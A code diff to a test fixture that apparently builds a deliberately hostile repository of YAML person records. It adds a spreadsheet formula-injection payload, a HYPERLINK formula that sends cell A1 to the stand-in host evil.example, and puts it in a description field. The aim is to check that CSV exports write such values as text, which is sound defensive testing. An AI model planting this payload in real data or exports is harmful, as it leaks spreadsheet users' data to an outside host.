@@ -42,6 +42,8 @@ EXCERPT = (
     "and ends with closing words that are cited."
 )
 UNCITED = "this secret middle part is never cited anywhere"
+# A description a spreadsheet would run as a formula, were it not written as text in every CSV file.
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Carol")'
 
 
 def _commit(repo: Path, n: int) -> None:
@@ -77,7 +79,7 @@ def make_hostile_repo(dest: Path) -> Path:
     write_record(
         repo,
         "people/carol-odd.yaml",
-        "id: carol-odd\nname: Carol Odd\ndescription: A person cited from the oddly named source.\n"
+        f"id: carol-odd\nname: Carol Odd\ndescription: {json.dumps(FORMULA)}\n"
         "citations:\n  - source: odd-name\n    quote: Bob said it lasted one hour.\n",
     )
     _git(repo, "add", "-A")
